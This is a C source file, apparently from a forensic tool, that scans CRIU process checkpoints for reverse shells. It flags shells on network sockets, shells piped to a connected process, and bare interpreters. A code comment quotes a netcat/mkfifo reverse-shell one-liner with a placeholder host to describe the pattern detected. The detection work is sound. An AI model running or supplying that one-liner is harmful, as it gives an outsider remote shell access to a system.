/* Findings about shells and interpreters: who commands them. */
#include "analyze/process/detect.h"

static const struct file *standard(const struct process *p, uint32_t fd)
{
    for (size_t i = 0; i < p->descriptor_count; i++)
        if (p->descriptors[i].fd == fd)
            return p->descriptors[i].file;
    return NULL;
}

static bool is_network(const struct file *f)
{
    return f && f->type == CRIU__FD_TYPES__FD_TYPES_INETSK;
}

static bool runs_shell(const struct detect *d, const struct process *p)
{
    struct bytes exe = base_name_of(process_exe(d, p));
    return is_shell(exe) || is_interpreter(exe) ||
           is_shell(base_name_of(process_argument(p, 0))) || is_shell(process_comm(p));
}

static void report(struct detect *d, const struct process *p, const struct file *socket,
                   const struct process *through)
{
    struct finding f = detect_finding(d, PROCESS_SHELL_ON_SOCKET, p, p->span);
    struct text t = {0};
    finding_span(&f, socket->span);
    file_label(d->describe.checkpoint, socket, &t);
    detect_evidence(d, &f, "connection", text_bytes(&t));
    text_release(&t);
    if (through) {
        struct bytes comm = process_comm(through);
        detect_argument(d, &f, "through", "pid %u", through->pid);
        detect_evidence(d, &f, "program", comm);
        f.confidence = CONFIDENCE_MEDIUM;
    }
    detect_add(d, &f, p);
}

/* -- a shell behind a pipe ------------------------------------------------------------
 */

static bool pipe_of(const struct file *f, uint32_t *id)
{
    if (f && f->type == CRIU__FD_TYPES__FD_TYPES_PIPE)
        *id = ((const Criu__PipeEntry *)f->message)->pipe_id;
    else if (f && f->type == CRIU__FD_TYPES__FD_TYPES_FIFO)
        *id = ((const Criu__FifoEntry *)f->message)->pipe_id;
    else
        return false;
    return true;
}

static bool holds_pipe(const struct process *p, uint32_t id)
{
    uint32_t other;
    for (size_t i = 0; i < p->descriptor_count; i++)
        if (pipe_of(p->descriptors[i].file, &other) && other == id)
            return true;
    return false;
}

/* A connection that somebody else may talk through: not a socket that waits for one. */
static const struct file *connection_of(const struct process *p)
{
    for (size_t i = 0; i < p->descriptor_count; i++) {
        const struct file *f = p->descriptors[i].file;
        if (is_network(f) && ((const Criu__InetSkEntry *)f->message)->dst_port)
            return f;
    }
    return NULL;
}

/* "mkfifo p; sh < p | nc HOST PORT > p": both ends of the shell are pipes, and a program
 * at the other end of both has a connection. */
static bool shell_behind_pipe(struct detect *d, const struct process *p)
{
    const struct checkpoint *c = d->describe.checkpoint;
    uint32_t in, out;
    if (!pipe_of(standard(p, 0), &in) || !pipe_of(standard(p, 1), &out))
        return false;
    for (size_t i = 0; i < c->count; i++) {
        const struct process *q = &c->processes[i];
        const struct file *socket = q != p ? connection_of(q) : NULL;
        if (!socket || !holds_pipe(q, out))
            continue;
        report(d, p, socket, q);
        return true;
    }
    return false;
}

/* No argument that could be a script, and input that is no terminal. */
static void bare_interpreter(struct detect *d, const struct process *p)
{
    const struct file *in = standard(p, 0);
    bool script = false;
    if (!is_interpreter(base_name_of(process_exe(d, p))) || !in ||
        in->type == CRIU__FD_TYPES__FD_TYPES_TTY)
        return;
    for (size_t i = 1; i < p->arguments.n; i++) {
        struct bytes a = process_argument(p, i);
        script |= a.n && a.p[0] != '-';
        if (bytes_is(a, "-c") || bytes_is(a, "-e"))
            break;
    }
    if (script)
        return;
    struct finding f = detect_finding(d, PROCESS_INTERPRETER_BARE, p, p->arguments.span);
    f.confidence = CONFIDENCE_MEDIUM;
    detect_add(d, &f, p);
}

void detect_shell(struct detect *d, const struct process *p)
{
    const struct file *in = standard(p, 0), *out = standard(p, 1);
    if (runs_shell(d, p)) {
        if (is_network(in) || is_network(out))
            report(d, p, is_network(in) ? in : out, NULL);
        else
            shell_behind_pipe(d, p);
    }
    bare_interpreter(d, p);
}
